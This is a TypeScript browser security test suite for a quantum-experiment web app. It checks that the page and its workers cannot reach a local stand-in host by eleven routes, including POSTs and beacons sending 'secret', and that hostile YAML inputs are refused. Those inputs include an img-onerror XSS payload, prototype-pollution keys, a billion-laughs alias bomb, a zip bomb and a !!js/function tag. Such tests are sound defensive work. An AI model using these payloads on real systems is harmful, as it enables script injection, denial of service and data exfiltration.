import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { deflateSync } from "fflate";
import type { Page, Worker } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { chromiumPath } from "./support/chromium.ts";
import { ONE_QUBIT } from "./support/one-qubit.ts";
import { chooseFile } from "./support/own-experiment.ts";
import { studioPages } from "./support/studio-page.ts";
import { train } from "./support/training.ts";

/** A host of somebody else's, which lets everybody in and counts what comes. */
let elsewhere: Server;
let address: string;
let asked: string[] = [];

beforeAll(async () => {
  elsewhere = createServer(({ url = "" }, response) => {
    asked.push(url);
    response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/javascript" });
    response.end("globalThis.hasRun = true");
  });
  elsewhere.on("upgrade", ({ url = "" }, socket) => {
    asked.push(url);
    socket.destroy();
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, "127.0.0.1", resolve));
  address = `127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
});

afterAll(() => {
  elsewhere.closeAllConnections();
  elsewhere.close();
});

/** Tries every way out that a thread has; runs in the page or in a worker. */
async function tryToLeave(host: string): Promise<{ readonly hasRun: boolean; readonly ways: number }> {
  // As text, which the test itself may evaluate: the tests' own loader would put another `import` in its place.
  const load = new Function("address", "return import(address)") as (address: string) => unknown;
  const nested = new Blob([`await fetch("http://${host}/nested")`], { type: "text/javascript" });
  const ways: (() => unknown)[] = [
    () => fetch(`http://${host}/fetch`),
    () => fetch(`http://${host}/no-cors`, { mode: "no-cors", method: "POST", body: "secret" }),
    () => load(`http://${host}/import.js`),
    () => new WebSocket(`ws://${host}/socket`),
    () => new EventSource(`http://${host}/events`),
    () => {
      const request = new XMLHttpRequest();
      request.open("GET", `http://${host}/request`);
      request.send();
    },
    () => new Worker(`http://${host}/worker.js`),
    () => new Worker(URL.createObjectURL(nested), { type: "module" }),
    () => new Function("globalThis.hasRun = true")(),
    () => load("data:text/javascript,globalThis.hasRun = true"),
    () => navigator.sendBeacon?.(`http://${host}/beacon`, "secret"),
  ];
  for (const way of ways) {
    try {
      // In a task of its own: what the test itself evaluates may evaluate text.
      await new Promise((resolve) => setTimeout(resolve, 0));
      await Promise.race([way(), new Promise((resolve) => setTimeout(resolve, 100))]);
    } catch {
      // Refused, as it should be.
    }
  }
  // Once its own host, which may be asked, has answered, the other one would have been asked.
  await fetch(globalThis.origin);
  return { hasRun: "hasRun" in globalThis, ways: ways.length };
}

describe.skipIf(!chromiumPath)("safety", () => {
  const open = studioPages();

  async function workersOf(page: Page): Promise<readonly Worker[]> {
    await page.getByTestId("state").getByText("Ready").waitFor();
    await expect.poll(() => page.workers().length).toBeGreaterThan(1);
    return page.workers();
  }

  test("a browser without SIMD or module workers is told what it lacks", async () => {
    const { page, url } = await open();
    const reopened = async (change: () => void) => {
      const next = await page.context().newPage();
      await next.addInitScript(change);
      await next.goto(url);
      return await next.getByRole("alert").textContent();
    };
    expect(await reopened(() => Object.assign(WebAssembly, { validate: () => false }))).toContain(
      "It lacks WebAssembly with SIMD.",
    );
    const old = () => {
      const { Worker } = globalThis;
      Object.assign(globalThis, {
        Worker: class extends Worker {
          constructor(address: string) {
            super(address);
          }
        },
      });
    };
    expect(await reopened(old)).toContain("It lacks workers that run modules.");
    const { page: bare } = await open({ javaScriptEnabled: false });
    expect(await bare.locator("noscript").innerText()).toContain("needs JavaScript");
  });

  test("neither page nor workers reach another host, though the server sends no headers", async () => {
    const { page } = await open();
    const workers = await workersOf(page);
    for (const evaluate of [
      () => page.evaluate(tryToLeave, address),
      ...workers.map((worker) => () => worker.evaluate(tryToLeave, address)),
    ]) {
      asked = [];
      const { hasRun, ways } = await evaluate();
      expect(asked).toEqual([]);
      expect(hasRun).toBe(false);
      expect(ways).toBe(11);
    }
  });

  test("a page without its policy does reach another host by all these ways", async () => {
    const { page } = await open();
    await page.goto(`http://${address}/page`);
    asked = [];
    expect((await page.evaluate(tryToLeave, address)).hasRun).toBe(true);
    const paths = [
      "fetch",
      "no-cors",
      "import.js",
      "socket",
      "events",
      "request",
      "worker.js",
      "nested",
      "beacon",
    ];
    await expect.poll(() => paths.filter((path) => !asked.includes(`/${path}`))).toEqual([]);
  });

  test("hostile experiments are refused with words, or are nothing but text", async () => {
    const { page, url, complaints } = await open();
    await page.goto(`${url}#/make`);
    const problems = page.getByTestId("problems");
    asked = [];
    for (const [text, answer] of hostile(address)) {
      await chooseFile(page, "hostile.yaml", text);
      await page.getByText(answer).first().waitFor();
    }
    await train(page);
    await page.getByTestId("own-state").getByText("Finished").waitFor();
    await page.getByRole("link", { name: "Runs" }).click();
    const titles = () =>
      page.locator("main input").evaluateAll((all) => all.map((each) => (each as HTMLInputElement).value));
    await expect.poll(titles).toContain(IMAGE(address));

    const endless = Buffer.from(deflateSync(new Uint8Array(100_000_000))).toString("base64url");
    await page.goto(`${url}#/make?experiment=${endless}`);
    await page.getByRole("alert").getByText("unpacks to more than a million characters").waitFor();
    await problems.waitFor();
    const isClean = () => !("hasRun" in globalThis) && !("polluted" in {});
    // Asked again where a worker of the view that was left ends meanwhile.
    const answers = () =>
      Promise.all([page.evaluate(isClean), ...page.workers().map((worker) => worker.evaluate(isClean))]);
    await expect.poll(async () => new Set(await answers())).toEqual(new Set([true]));
    expect(asked).toEqual([]);
    expect(complaints).toEqual([]);
  });
});

const IMAGE = (host: string) => `<img src="http://${host}/image" onerror="globalThis.hasRun = true">`;

/** Ten lists of ten of the one before: ten thousand million values from 400 characters. */
const ALIASES = [..."bcdefghij"].reduce(
  (lines, name, index) =>
    `${lines}\n${name}: &${name} [${Array(10).fill(`*${"abcdefghij"[index]}`).join(", ")}]`,
  "a: &a [0, 0, 0, 0, 0, 0, 0, 0, 0, 0]",
);

/** Experiments, and what the page says of them; the last one is valid. */
const hostile = (host: string): readonly (readonly [text: string, answer: string | RegExp])[] => [
  [ONE_QUBIT.replaceAll(/\ba:/g, `'${IMAGE(host)}':`), 'given "<img src='],
  [`${ONE_QUBIT}__proto__: { polluted: true }\n`, "__proto__ cannot be used"],
  [`${ONE_QUBIT}constructor: { prototype: { polluted: true } }\n`, 'unknown key "constructor"'],
  [`${ONE_QUBIT}${ALIASES}\n`, "cannot be expanded"],
  [`${ONE_QUBIT}x: ${"[".repeat(100_000)}`, "lists and mappings are nested more than"],
  [ONE_QUBIT.replace("One qubit", "!!js/function 'globalThis.hasRun = true'"), "Unresolved tag"],
  [ONE_QUBIT.replace("qubits: 1", "qubits: 1e300"), "expected a whole number"],
  [ONE_QUBIT.replace("0.8", "9".repeat(100_000)), "expected a finite number"],
  [
    ONE_QUBIT.replace("-Z0", `{ format: qiskit, file: "http://${host}/operator.json" }`),
    "files are read by the command line",
  ],
  [
    ONE_QUBIT.replace(
      "loss:",
      `data: { sampler: file, file: "http://${host}/t.csv", inputs: { x: x }, targets: { z: z } }\nloss:`,
    ),
    `It reads the table http://${host}/t.csv`,
  ],
  [ONE_QUBIT.replace("One qubit", `'${IMAGE(host)}'`), "A valid experiment"],
];
